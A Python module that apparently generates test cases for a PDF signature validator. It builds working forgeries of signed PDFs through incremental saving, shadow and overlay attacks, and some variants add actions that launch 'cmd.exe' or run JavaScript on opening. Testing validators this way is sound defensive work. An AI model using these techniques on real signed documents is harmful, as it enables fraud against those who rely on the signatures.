"""Attacks that add to a signed file: incremental saving (ISA), and what else an update can put before the reader's eyes.

Classes after Mladenov et al., "1 Trillion Dollar Refund" (CCS 2019) and Mainka et al., "Shadow Attacks" (NDSS 2021).
"""

from __future__ import annotations

import io
import re
from typing import Any

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name as name
from pyhanko.pdf_utils.reader import PdfFileReader

from .attack_kit import FORGED, Attack, Change, page_number_of, raw_object, size_of, stream, update
from .tampering import TAMPERINGS, _form, _later, _numbers, _page


def _page_with(pdf: bytes, content: int) -> bytes:
    number = page_number_of(pdf)
    return re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % content, re.sub(rb"/Contents ?\[[^\]]*\]", b"/Contents 0 0 R", raw_object(pdf, number)))


def _saved(**how: Any) -> Change:
    """Another content for the first page, with the parts of an update that `how` leaves."""

    def change(pdf: bytes) -> bytes:
        new = size_of(pdf)
        return update(pdf, {page_number_of(pdf): _page_with(pdf, new), new: stream(FORGED)}, **how)

    return change


def _bare(pdf: bytes) -> bytes:
    """Objects alone: no table, no trailer, no end."""
    new = size_of(pdf)
    return pdf + b"%d 0 obj\n%s\nendobj\n%d 0 obj\n%s\nendobj\n" % (page_number_of(pdf), _page_with(pdf, new), new, stream(FORGED))


def _bare_with_end(pdf: bytes) -> bytes:
    return _bare(pdf) + b"%%EOF\n"


def _with_copied_signature(pdf: bytes) -> bytes:
    """ISA, variant 4: the signature's own object once more in the update."""
    number = PdfFileReader(io.BytesIO(pdf)).embedded_regular_signatures[0].sig_object.container_ref.idnum
    new = size_of(pdf)
    return update(pdf, {page_number_of(pdf): _page_with(pdf, new), new: stream(FORGED), number: raw_object(pdf, number)})


def _skipping_the_signed_revision(pdf: bytes) -> bytes:
    """A chain of tables that leads past what was signed."""
    starts = [int(found) for found in re.findall(rb"startxref\s+(\d+)", pdf)]
    new = size_of(pdf)
    return update(pdf, {page_number_of(pdf): _page_with(pdf, new), new: stream(FORGED)}, prev=starts[0])


def _other_root(pdf: bytes) -> bytes:
    """Hide and replace, variant 1: nothing but a trailer that names another catalogue."""
    new = size_of(pdf)
    page = b"<</Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R>>" % (new + 1, new + 3)
    tree = b"<</Type /Pages /Kids [%d 0 R] /Count 1>>" % (new + 2)
    form = re.search(rb"/AcroForm (\d+ 0 R|<<.*?>>)", raw_object(pdf, _root(pdf)), re.DOTALL)
    assert form is not None
    catalogue = b"<</Type /Catalog /Pages %d 0 R %s>>" % (new + 1, form[0])
    return update(pdf, {new: catalogue, new + 1: tree, new + 2: page, new + 3: stream(FORGED)}, root=new)


def _root(pdf: bytes) -> int:
    return int(re.findall(rb"/Root (\d+) 0 R", pdf)[-1])


def _freed(pdf: bytes) -> bytes:
    """Hide, variant 2: the object that draws the page is declared free."""
    found = re.search(rb"/Contents ?\[?\s*(\d+) 0 R", raw_object(pdf, page_number_of(pdf)))
    assert found is not None
    start = len(pdf)
    before = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    freed = b"xref\n0 1\n%010d 65535 f \n%d 1\n0000000000 00001 f \n" % (int(found[1]), int(found[1]))
    return pdf + freed + b"trailer\n<</Size %d /Root %d 0 R /Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (size_of(pdf), _root(pdf), before, start)


def _stream_overwritten(pdf: bytes) -> bytes:
    """The page stays as it is; the stream it draws is written anew under its number."""
    found = re.search(rb"/Contents ?\[?\s*(\d+) 0 R", raw_object(pdf, page_number_of(pdf)))
    assert found is not None
    return update(pdf, {int(found[1]): stream(FORGED)})


def _in_object_stream(pdf: bytes) -> bytes:
    """The page overwritten from within an object stream, listed by a cross-reference stream."""
    page, new = page_number_of(pdf), size_of(pdf)
    inside = _page_with(pdf, new)
    head = b"%d 0 " % page
    packed = stream(head + inside, b"/Type /ObjStm /N 1 /First %d" % len(head))
    body = pdf
    places = {}
    for number, content in ((new, stream(FORGED)), (new + 1, packed)):
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(body)
    rows = [(page, 2, new + 1, 0), (new, 1, places[new], 0), (new + 1, 1, places[new + 1], 0), (new + 2, 1, start, 0)]
    table = b"".join(bytes((kind,)) + where.to_bytes(4, "big") + bytes((index,)) for _, kind, where, index in rows)
    index = b" ".join(b"%d 1" % row[0] for row in rows)
    before = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    entries = b"/Type /XRef /W [1 4 1] /Index [%s] /Size %d /Root %d 0 R /Prev %d" % (index, new + 3, _root(pdf), before)
    return body + b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (new + 2, stream(table, entries), start)


def _hybrid(pdf: bytes) -> bytes:
    """A harmless table, and beside it a hidden cross-reference stream (/XRefStm) that overwrites the page."""
    page, new = page_number_of(pdf), size_of(pdf)
    body, places = pdf, {}
    for number, content in ((page, _page_with(pdf, new)), (new, stream(FORGED))):
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    hidden = len(body)
    table = b"".join(b"\x01" + places[number].to_bytes(4, "big") + b"\0" for number in (page, new))
    body += b"%d 0 obj\n%s\nendobj\n" % (new + 1, stream(table, b"/Type /XRef /W [1 4 1] /Index [%d 1 %d 1] /Size %d" % (page, new, new + 2)))
    start = len(body)
    before = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    return body + b"xref\n0 1\n0000000000 65535 f \ntrailer\n<</Size %d /Root %d 0 R /Prev %d /XRefStm %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        new + 2, _root(pdf), before, hidden, start,
    )  # fmt: skip


def _encrypted(pdf: bytes) -> bytes:
    """An update that declares the file encrypted."""
    return update(pdf, {}, extra=b"/Encrypt <</Filter /Standard /V 1 /R 2 /O (%s) /U (%s) /P -4>>" % (b"o" * 32, b"u" * 32))


def _rotate(writer: Any) -> None:
    page = _page(writer)
    page[name("/Rotate")] = generic.NumberObject(180)
    writer.update_container(page)


def _crop(writer: Any) -> None:
    page = _page(writer)
    page[name("/CropBox")] = _numbers(0, 0, 300, 300)
    writer.update_container(page)


def _drop_page(writer: Any) -> None:
    tree = writer.root["/Pages"]
    tree["/Kids"].pop()
    tree[name("/Count")] = generic.NumberObject(1)
    writer.update_container(tree)


def _turn_pages_round(writer: Any) -> None:
    tree = writer.root["/Pages"]
    tree[name("/Kids")] = generic.ArrayObject(reversed([tree["/Kids"].raw_get(place) for place in range(2)]))
    writer.update_container(tree)


def _in_catalogue(key: str, value: Any) -> Any:
    def change(writer: Any) -> None:
        writer.root[name(key)] = value() if callable(value) else value
        writer.update_root()

    return change


def _action(kind: str, **entries: Any) -> Any:
    given = {name(f"/{key}"): value for key, value in entries.items()}
    return lambda: generic.DictionaryObject({name("/S"): name(kind), **given})


def _in_form(key: str, value: Any) -> Any:
    def change(writer: Any) -> None:
        form = writer.root["/AcroForm"]
        form[name(key)] = value
        writer.update_container(form)
        writer.update_root()

    return change


def _hide_layer(writer: Any) -> None:
    """An optional content group that was not there, switched off, around the page's content."""
    group = writer.add_object(generic.DictionaryObject({name("/Type"): name("/OCG"), name("/Name"): generic.pdf_string("x")}))
    off = generic.DictionaryObject({name("/OFF"): generic.ArrayObject([group])})
    writer.root[name("/OCProperties")] = generic.DictionaryObject({name("/OCGs"): generic.ArrayObject([group]), name("/D"): off})
    writer.update_root()


def _annotation(kind: str, **entries: Any) -> Any:
    def change(writer: Any) -> None:
        page = _page(writer)
        picture = generic.DictionaryObject({name("/N"): writer.add_object(_form(b"0.8 0 0 rg 0 0 400 200 re f"))})
        note = {
            name("/Type"): name("/Annot"), name("/Subtype"): name(kind), name("/Rect"): _numbers(72, 500, 472, 700), name("/AP"): picture,
            name("/F"): generic.NumberObject(4), **{name(f"/{key}"): value for key, value in entries.items()},
        }  # fmt: skip
        page[name("/Annots")] = generic.ArrayObject([*page.get("/Annots", ()), writer.add_object(generic.DictionaryObject(note))])
        writer.update_container(page)

    return change


def _text_field(writer: Any) -> None:
    """A form field that looks like the document's text."""
    page = _page(writer)
    picture = generic.DictionaryObject({name("/N"): writer.add_object(_form(b"0.8 0 0 rg 0 0 400 200 re f"))})
    field = writer.add_object(generic.DictionaryObject({
        name("/FT"): name("/Tx"), name("/T"): generic.pdf_string("sum"), name("/V"): generic.pdf_string("1"), name("/Type"): name("/Annot"),
        name("/Subtype"): name("/Widget"), name("/Rect"): _numbers(72, 500, 472, 700), name("/AP"): picture, name("/F"): generic.NumberObject(4),
    }))  # fmt: skip
    page[name("/Annots")] = generic.ArrayObject([*page.get("/Annots", ()), field])
    writer.update_container(page)
    form = writer.root["/AcroForm"]
    form["/Fields"].append(field)
    writer.update_container(form)
    writer.update_container(form["/Fields"])


def _move_seal(writer: Any) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0]
    field[name("/Rect")] = _numbers(60, 600, 180, 720)
    writer.update_container(field)


def _hide_seal(writer: Any) -> None:
    field = writer.root["/AcroForm"]["/Fields"][0]
    field[name("/F")] = generic.NumberObject(2)
    writer.update_container(field)


def _other_reason(writer: Any) -> None:
    """The words beside the signature (who, why, where) rewritten, its value copied."""
    field = writer.root["/AcroForm"]["/Fields"][0]
    value = generic.DictionaryObject(dict(field["/V"]))
    value[name("/Name")] = generic.pdf_string("somebody else")
    field[name("/V")] = writer.add_object(value)
    writer.update_container(field)


def _font(pdf: bytes) -> bytes:
    """Replace via overwrite: the font's program swapped for another of the document's own."""
    files = re.findall(rb"/FontFile[23]? (\d+) 0 R", pdf)
    return update(pdf, {int(files[0]): raw_object(pdf, int(files[-1]))})


def _xfa() -> Any:
    return generic.pdf_string('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"/>')


LATER: dict[str, Attack] = {
    **{f"tampered: {how}": Attack(_later_one, how not in ("title changed", "script added", "signature field dropped")) for how, _later_one in TAMPERINGS.items()
       if how in ("page content replaced", "page appended", "text hidden by an annotation", "picture of the seal swapped", "page tree swapped", "font changed", "script added", "signature field dropped")},
    "ISA 1: table and trailer": Attack(_saved()),
    "ISA 2: no table": Attack(_saved(table=False), visible=False),
    "ISA 2: no trailer": Attack(_saved(trailer=False), visible=False),
    "ISA 3: neither table nor trailer": Attack(_bare, visible=False),
    "ISA 3: neither, but an end": Attack(_bare_with_end, visible=False),
    "ISA 4: with a copy of the signature": Attack(_with_copied_signature),
    "ISA: in an object stream": Attack(_in_object_stream),
    "ISA: hidden cross-reference stream": Attack(_hybrid),
    "ISA: past the signed revision": Attack(_skipping_the_signed_revision, visible=False),
    "stream overwritten": Attack(_stream_overwritten),
    "stream freed": Attack(_freed, visible=False),
    "another catalogue": Attack(_other_root),
    "declared encrypted": Attack(_encrypted, visible=False),
    "page turned": Attack(_later(_rotate)),
    "page cropped": Attack(_later(_crop)),
    "page dropped": Attack(_later(_drop_page)),
    "pages exchanged": Attack(_later(_turn_pages_round)),
    "seal moved": Attack(_later(_move_seal)),
    "seal hidden": Attack(_later(_hide_seal)),
    "font program swapped": Attack(_font, visible=False),
    "words beside the signature": Attack(_later(_other_reason), visible=False),
    "annotation: stamp": Attack(_later(_annotation("/Stamp"))),
    "annotation: highlight": Attack(_later(_annotation("/Highlight"))),
    "annotation: square": Attack(_later(_annotation("/Square"))),
    "annotation: redaction": Attack(_later(_annotation("/Redact")), visible=False),
    "annotation: link with launch": Attack(_later(_annotation("/Link", A=generic.DictionaryObject({name("/S"): name("/Launch"), name("/F"): generic.pdf_string("cmd.exe")}))), visible=False),
    "form field over the text": Attack(_later(_text_field)),
    "form: NeedAppearances": Attack(_later(_in_form("/NeedAppearances", generic.BooleanObject(True))), visible=False, curable=False),
    "form: XFA": Attack(_later(_in_form("/XFA", _xfa())), visible=False),
    "form: SigFlags gone": Attack(_later(_in_form("/SigFlags", generic.NumberObject(0))), visible=False),
    "catalogue: JavaScript at opening": Attack(_later(_in_catalogue("/OpenAction", _action("/JavaScript", JS=generic.pdf_string("app.alert(1)")))), visible=False),
    "catalogue: launch at opening": Attack(_later(_in_catalogue("/OpenAction", _action("/Launch", F=generic.pdf_string("cmd.exe")))), visible=False),
    "catalogue: additional actions": Attack(_later(_in_catalogue("/AA", lambda: generic.DictionaryObject({name("/WP"): _action("/JavaScript", JS=generic.pdf_string("x"))()}))), visible=False),
    "catalogue: names of scripts": Attack(_later(_in_catalogue("/Names", lambda: generic.DictionaryObject({name("/JavaScript"): generic.DictionaryObject()}))), visible=False),
    "catalogue: layers": Attack(_later(_hide_layer), visible=False),
    "catalogue: permissions": Attack(_later(_in_catalogue("/Perms", lambda: generic.DictionaryObject())), visible=False),
    "catalogue: legal attestation": Attack(_later(_in_catalogue("/Legal", lambda: generic.DictionaryObject())), visible=False),
    "catalogue: collection cover": Attack(_later(_in_catalogue("/Collection", lambda: generic.DictionaryObject())), visible=False),
    "catalogue: page labels": Attack(_later(_in_catalogue("/PageLabels", lambda: generic.DictionaryObject())), visible=False),
}
"""Each is tried as it is, then with a good document timestamp over it, then under another good signature."""
